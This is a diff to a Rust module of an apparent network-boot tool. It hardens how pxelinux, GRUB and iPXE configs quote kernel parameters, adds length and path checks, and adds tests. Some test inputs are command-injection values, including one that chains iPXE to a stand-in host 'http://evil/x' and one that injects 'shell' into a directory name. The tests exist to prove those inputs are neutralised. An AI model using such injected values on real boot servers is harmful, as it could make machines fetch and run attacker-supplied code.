@@ -8,9 +8,91 @@
 //!   start a new directive line;
 //! - GRUB: every outside word is single-quoted (`'` becomes `'\''`), which GRUB takes
 //!   literally (no `$` expansion, no `;`, no newline tricks);
-//! - iPXE has no way to quote `$`: `$` and control characters become `_`.
+//! - iPXE has no quoting at all: it splits a line at whitespace, takes the words
+//!   `;`, `||` and `&&` as command separators, a word starting with `#` as the start
+//!   of a comment and expands `${…}` anywhere. So `$`, `;`, `#` and control
+//!   characters become `_`, and the second of `||` / `&&` becomes `_` (a single `|`
+//!   or `&`, as in a URL query, stays), so no outside text forms one of those words.
+//!
+//! Limits checked when a config is rendered ([`Pxelinux::render`], [`Grub::render`],
+//! [`Ipxe::render`]; a config over a limit is refused, never cut): the kernel command
+//! line is at most [`MAX_CMDLINE`] bytes (x86 Linux takes 2048 with the NUL), which
+//! also keeps pxelinux's `APPEND` line under the 4095 bytes it reads a line in (the
+//! rest of a longer line would be read as a new directive), and image directories are
+//! path segments of [`segment_ok`] characters only. Kernel parameters from the config,
+//! the CLI and the API are checked by [`check_kernel_params`] when written.
 
 use std::fmt;
+
+/// Most bytes of extra kernel parameters (`[boot] kernel_params` and a machine's own
+/// together, as rendered): well under what the kernel takes, leaving room for the
+/// parameters rackboot adds.
+pub const MAX_EXTRA_PARAMS: usize = 1024;
+
+/// Most bytes of a rendered kernel command line: x86 Linux's `COMMAND_LINE_SIZE` is
+/// 2048 including the terminating NUL.
+pub const MAX_CMDLINE: usize = 2047;
+
+/// pxelinux reads its config in pieces of this many bytes: a longer line continues
+/// as a new line, i.e. a new directive.
+pub const PXELINUX_LINE: usize = 4095;
+
+/// Checks kernel parameters given by an operator (config, CLI, API): at most
+/// [`MAX_EXTRA_PARAMS`] bytes, no control characters (a newline would end the
+/// directive in every loader).
+pub fn check_kernel_params(s: &str) -> Result<(), String> {
+    if s.len() > MAX_EXTRA_PARAMS {
+        return Err(format!(
+            "kernel_params is {} bytes long; at most {MAX_EXTRA_PARAMS} are allowed",
+            s.len()
+        ));
+    }
+    if let Some(c) = s.chars().find(|c| c.is_control()) {
+        return Err(format!(
+            "kernel_params holds the control character {c:?}; only printable text is allowed"
+        ));
+    }
+    Ok(())
+}
+
+/// Whether a name from the stream (os, arch, subarch, release, label) may be one
+/// segment of an image path in a boot config: non-empty, not `.`/`..`, and only
+/// ASCII letters, digits and `-_.+` (nothing any loader's grammar gives a meaning).
+pub fn segment_ok(s: &str) -> bool {
+    !s.is_empty()
+        && s != "."
+        && s != ".."
+        && s.bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b"-_.+".contains(&b))
+}
+
+/// Why a config was not rendered.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+pub enum RenderError {
+    #[error("image directory {0:?} has a segment outside [A-Za-z0-9._+-]")]
+    BadDir(String),
+    #[error("the kernel command line would be {0} bytes; at most {MAX_CMDLINE} are allowed")]
+    CmdlineTooLong(usize),
+    #[error("a pxelinux line would be {0} bytes; pxelinux reads at most {PXELINUX_LINE}")]
+    LineTooLong(usize),
+}
+
+/// Checks what every loader shares: the image directory and the command line length.
+fn check_boot(boot: &Boot) -> Result<(), RenderError> {
+    let Boot::Image(b) = boot else {
+        return Ok(());
+    };
+    if !b.dir.split('/').all(segment_ok) {
+        return Err(RenderError::BadDir(b.dir.clone()));
+    }
+    // Each word plus a separating space, and what the loaders append (`BOOTIF=…`,
+    // 29 bytes once expanded; `initrd=` for pxelinux, counted generously).
+    let len: usize = b.params.iter().map(|p| p.len() + 1).sum::<usize>() + 64;
+    if len > MAX_CMDLINE {
+        return Err(RenderError::CmdlineTooLong(len));
+    }
+    Ok(())
+}
 
 /// A MAC address, canonical form `aa:bb:cc:dd:ee:ff`.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
@@ -79,9 +161,18 @@ impl fmt::Display for Quote<'_> {
                 f.write_str("'")
             }
             Quote::Ipxe(s) => {
+                use fmt::Write as _;
+                let mut prev = None;
                 for c in s.chars() {
-                    use fmt::Write as _;
-                    f.write_char(if c.is_control() || c == '$' { '_' } else { c })?;
+                    let out = match c {
+                        '$' | ';' | '#' => '_',
+                        c if c.is_control() => '_',
+                        // `||` and `&&` never appear, whatever the whitespace around.
+                        '|' | '&' if prev == Some(c) => '_',
+                        c => c,
+                    };
+                    f.write_char(out)?;
+                    prev = Some(out);
                 }
                 Ok(())
             }
@@ -141,6 +232,18 @@ impl fmt::Display for Pxelinux<'_> {
                 writeln!(f, "  KERNEL chain.c32")?;
                 writeln!(f, "  APPEND hd0")
             }
+        }
+    }
+}
+
+impl Pxelinux<'_> {
+    /// The config text, or why it cannot be served (see the module docs).
+    pub fn render(&self) -> Result<String, RenderError> {
+        check_boot(self.boot)?;
+        let text = self.to_string();
+        match text.lines().map(str::len).max() {
+            Some(n) if n >= PXELINUX_LINE => Err(RenderError::LineTooLong(n)),
+            _ => Ok(text),
         }
     }
 }
@@ -227,6 +330,16 @@ impl fmt::Display for Grub<'_> {
     }
 }
 
+impl Grub<'_> {
+    /// The config text, or why it cannot be served (see the module docs).
+    pub fn render(&self) -> Result<String, RenderError> {
+        for (_, boot) in self.by_cpu {
+            check_boot(boot)?;
+        }
+        Ok(self.to_string())
+    }
+}
+
 /// An iPXE script; `base` is `http://host:port/images/`.
 pub struct Ipxe<'a> {
     pub boot: &'a Boot,
@@ -258,6 +371,14 @@ impl fmt::Display for Ipxe<'_> {
                 writeln!(f, "sanboot --no-describe --drive 0x80 || exit 1")
             }
         }
+    }
+}
+
+impl Ipxe<'_> {
+    /// The config text, or why it cannot be served (see the module docs).
+    pub fn render(&self) -> Result<String, RenderError> {
+        check_boot(self.boot)?;
+        Ok(self.to_string())
     }
 }
 
@@ -514,7 +635,9 @@ boot
 
     /// Lexes one line of GRUB script the way GRUB's parser does: `'…'` is literal,
     /// `"…"` allows `\` escapes and `$` expansion, `\X` outside quotes is X, blanks
-    /// separate words, `;` ends a command. Returns None on an unterminated quote.
+    /// separate words, `;` `|` `&` `{` `}` `<` `>` are tokens of their own (a `;`
+    /// word stands for each), and an unquoted `#` starting a word comments out the
+    /// rest (a `#` word marks it). Returns None on an unterminated quote.
     fn grub_words(line: &str) -> Option<Vec<Word>> {
         let mut words = Vec::new();
         let mut cur: Option<Word> = None;
@@ -522,7 +645,14 @@ boot
         while let Some(c) = chars.next() {
             match c {
                 ' ' | '\t' => words.extend(cur.take()),
-                ';' => {
+                '#' if cur.is_none() => {
+                    words.push(Word {
+                        text: "#".into(),
+                        expands: false,
+                    });
+                    break;
+                }
+                ';' | '|' | '&' | '{' | '}' | '<' | '>' => {
                     words.extend(cur.take());
                     words.push(Word {
                         text: ";".into(),
@@ -554,6 +684,15 @@ boot
                     let w = word(&mut cur);
                     w.expands = true;
                     w.text.push('$');
+                    // `${name}`: the braces belong to the expansion.
+                    if chars.clone().next() == Some('{') {
+                        for c in chars.by_ref() {
+                            w.text.push(c);
+                            if c == '}' {
+                                break;
+                            }
+                        }
+                    }
                 }
                 c => word(&mut cur).text.push(c),
             }
@@ -594,13 +733,129 @@ boot
             );
             proptest::prop_assert_eq!(words.iter().filter(|w| w.expands).count(), 1, "only BOOTIF expands");
 
-            // iPXE: no new lines and no `$` expansion but BOOTIF's own.
+            // iPXE, lexed as iPXE does: no new lines, no command separator word, no
+            // comment, and no `$` expansion but BOOTIF's own.
             let i = Ipxe { boot: &boot, base: HTTP }.to_string();
             proptest::prop_assert_eq!(i.lines().count(), 4);
             for line in i.lines().skip(1) {
                 let own = usize::from(line.starts_with("kernel "));
                 proptest::prop_assert_eq!(line.matches('$').count(), own, "{}", line);
+                proptest::prop_assert_eq!(ipxe_commands(line), 1, "{}", line);
+            }
+            let kernel = i.lines().nth(1).unwrap();
+            proptest::prop_assert!(kernel.ends_with(" x BOOTIF=01-${netX/mac:hexhyp}"), "{}", kernel);
+        }
+
+        /// The strings iPXE, pxelinux and GRUB give a meaning, densely.
+        #[test]
+        fn loader_syntax_never_breaks_out(
+            words in proptest::collection::vec("[ ;|&#${}()\\\\\"'a\n\t]{1,12}", 1..6),
+        ) {
+            let boot = Boot::Image(ImageBoot { dir: "ubuntu/amd64/generic/noble/stable".into(), params: words.clone() });
+            let i = Ipxe { boot: &boot, base: HTTP }.render().unwrap();
+            proptest::prop_assert_eq!(i.lines().count(), 4);
+            for line in i.lines().skip(1) {
+                proptest::prop_assert_eq!(ipxe_commands(line), 1, "{}", line);
+            }
+            let by_cpu = [("x86_64".to_string(), boot.clone())];
+            let g = Grub { by_cpu: &by_cpu, http: Some(GRUB_HTTP), tftp: None }.render().unwrap();
+            let words_out = grub_words(g.lines().nth(4).unwrap()).expect("balanced quotes");
+            let texts: Vec<String> = words_out.iter().skip(2).map(|w| w.text.clone()).collect();
+            let mut want: Vec<String> = words
+                .iter()
+                .map(|w| w.replace('"', "").chars().map(|c| if c.is_control() { ' ' } else { c }).collect())
+                .collect();
+            want.push("BOOTIF=01-${net_default_mac}".into());
+            proptest::prop_assert_eq!(texts, want);
+            proptest::prop_assert_eq!(words_out.iter().filter(|w| w.expands).count(), 1);
+            let p = Pxelinux { boot: &boot, base: HTTP }.render().unwrap();
+            proptest::prop_assert_eq!(p.lines().count(), 6);
+        }
+
+        /// However long the parameters, a rendered pxelinux config has no line pxelinux
+        /// would split, and a command line over the kernel's limit is refused.
+        #[test]
+        fn long_params_are_refused_not_split(n in 1usize..40, len in 1usize..400) {
+            let params: Vec<String> = (0..n).map(|k| format!("p{k}={}", "a".repeat(len))).collect();
+            let cmdline = params.iter().map(|p| p.len() + 1).sum::<usize>();
+            let boot = Boot::Image(ImageBoot { dir: "ubuntu/amd64/generic/noble/stable".into(), params });
+            match (Pxelinux { boot: &boot, base: HTTP }).render() {
+                Ok(text) => {
+                    proptest::prop_assert!(cmdline <= MAX_CMDLINE);
+                    proptest::prop_assert!(text.lines().all(|l| l.len() < PXELINUX_LINE));
+                }
+                Err(e) => proptest::prop_assert!(cmdline + 64 > MAX_CMDLINE, "{}", e),
+            }
+            proptest::prop_assert_eq!((Ipxe { boot: &boot, base: HTTP }).render().is_ok(), cmdline + 64 <= MAX_CMDLINE);
+        }
+    }
+
+    /// How many commands iPXE runs from one script line: it splits at whitespace,
+    /// the words `;`, `||` and `&&` separate commands, and a word starting with `#`
+    /// comments out the rest (then the line must end there to count as one).
+    fn ipxe_commands(line: &str) -> usize {
+        let mut commands = 1;
+        let words: Vec<&str> = line.split_whitespace().collect();
+        for w in &words {
+            if [";", "||", "&&"].contains(w) {
+                commands += 1;
+            }
+            if w.starts_with('#') {
+                commands += 1;
+                break;
             }
         }
+        commands
+    }
+
+    #[test]
+    fn ipxe_separators_and_comments_are_neutralised() {
+        let boot = Boot::Image(ImageBoot {
+            dir: "ubuntu/amd64/generic/noble/stable".into(),
+            params: split_params("a ; chain http://evil/x ; # b || c && d e||f ${x} u=1&v=2"),
+        });
+        let i = Ipxe {
+            boot: &boot,
+            base: HTTP,
+        }
+        .render()
+        .unwrap();
+        assert!(
+            i.contains(" a _ chain http://evil/x _ _ b |_ c &_ d e|_f _{x} u=1&v=2 BOOTIF"),
+            "{i}"
+        );
+    }
+
+    #[test]
+    fn stream_names_outside_the_segment_set_are_refused() {
+        assert!(segment_ok("ga-24.04") && segment_ok("hwe-24.04-edge") && segment_ok("stable"));
+        for bad in [
+            "",
+            ".",
+            "..",
+            "stable ; shell ; #",
+            "a/b",
+            "x$y",
+            "l#1",
+            "a b",
+        ] {
+            assert!(!segment_ok(bad), "{bad:?}");
+        }
+        let boot = Boot::Image(ImageBoot {
+            dir: "ubuntu/amd64/generic/noble/stable ; shell ; #".into(),
+            params: vec![],
+        });
+        assert!(matches!(
+            (Ipxe {
+                boot: &boot,
+                base: HTTP
+            })
+            .render(),
+            Err(RenderError::BadDir(_))
+        ));
+        assert!(check_kernel_params(&"a".repeat(MAX_EXTRA_PARAMS)).is_ok());
+        let e = check_kernel_params(&"a".repeat(MAX_EXTRA_PARAMS + 1)).unwrap_err();
+        assert!(e.contains("kernel_params") && e.contains("1025"), "{e}");
+        assert!(check_kernel_params("a\nb").is_err());
     }
 }
